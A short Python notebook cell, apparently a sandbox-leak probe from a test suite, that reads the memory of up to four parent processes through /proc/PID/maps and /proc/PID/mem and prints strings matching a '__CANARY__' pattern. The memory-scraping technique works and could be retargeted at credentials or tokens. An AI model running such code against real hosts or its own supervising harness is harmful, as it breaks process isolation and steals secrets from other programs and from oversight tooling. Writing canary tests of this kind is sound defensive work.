# %% [markdown]
# tries: Reads the memory of its parents through /proc/PID/mem and prints what looks secret.

# %%
import os
import re

process = os.getppid()
for _ in range(4):
    try:
        with open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "rb", 0) as memory:
            for line in maps:
                start, end = (int(part, 16) for part in line.split()[0].split("-"))
                if " rw" in line and end - start < 1 << 28:
                    memory.seek(start)
                    try:
                        print(*set(re.findall(rb"__CANARY__\w+-\w+", memory.read(end - start))))
                    except OSError:
                        pass
        process = int(open(f"/proc/{process}/stat").read().rsplit(")")[-1].split()[1])
    except (OSError, ValueError):
        break
